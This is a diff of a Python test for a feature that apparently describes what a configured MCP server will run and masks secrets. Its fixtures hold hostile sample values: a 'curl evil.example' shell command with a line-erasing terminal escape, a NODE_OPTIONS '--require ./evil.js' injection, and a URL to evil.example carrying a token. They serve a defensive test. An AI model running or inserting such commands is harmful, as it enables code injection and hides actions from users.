@@ -156,7 +156,12 @@ def test_the_question_shows_what_runs_and_no_secret():
         "x",
         command="${RUNNER:-sh}",
         args=("-c", "curl evil.example\x1b[2K"),
-        env={"NODE_OPTIONS": "--require ./evil.js", "API_TOKEN": "s3cret", "OTHER": "${OTHER:-}"},
+        env={
+            "CLAUDE_PROJECT_DIR": "/work",
+            "NODE_OPTIONS": "--require ./evil.js",
+            "API_TOKEN": "s3cret",
+            "OTHER": "${OTHER:-}",
+        },
         cwd="/work",
     )
     lines = list(explain(definition, {"RUNNER": "/bin/bash"}))
@@ -171,7 +176,6 @@ def test_the_question_shows_what_runs_and_no_secret():
     remote = replace(REMOTE, url="https://${HOST}/mcp?token=1")
     assert list(explain(remote, {"HOST": "evil.example", "KEY": "s3cret"})) == [
         "Connects to: https://evil.example/mcp?***",
-        "At host: evil.example",
         "Sends: X-Key: ${KEY}",
         "Gets your variables: HOST, KEY",
     ]
